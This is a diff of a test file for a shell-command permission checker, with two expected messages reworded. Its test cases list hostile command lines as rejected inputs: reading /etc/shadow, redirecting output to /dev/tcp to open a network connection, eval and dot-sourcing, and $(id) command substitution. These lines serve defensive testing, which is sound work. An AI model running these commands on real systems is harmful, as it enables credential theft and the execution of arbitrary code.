@@ -89,7 +89,7 @@ describe('what a line for a shell needs', () => {
     ['cat {src/a,/etc/shadow}', 'the name of a file'],
     ['cat src/a > $X', 'the target of a redirection'],
     ['cat src/a > /dev/tcp/1.2.3.4/80', 'opens a connection'],
-    ['cat --files0-from=x src/a', 'is not known'],
+    ['cat --files0-from=x src/a', 'unknown option'],
     ['eval "cat src/a"', 'eval runs what it is told'],
     ['cat src/a; . ./x', '. runs what it is told'],
     ['cat $((a[$(id)]))', 'only the shell knows'],
@@ -131,7 +131,7 @@ describe('what a line for a shell needs', () => {
       expect(judge(line, grants)).toBe('allowed');
     for (const line of ['nohup cat ../b', 'timeout 5 cat ../b', 'nice -n 5 nohup cat ../b'])
       expect(judge(line, grants)).toBe('fs:read:work/b');
-    expect(judge('timeout $T cat src/a', grants)).toBe("what timeout starts can't be told");
+    expect(judge('timeout $T cat src/a', grants)).toBe('it is unknown what timeout starts');
   });
 
   it('goes where the shell goes', () => {
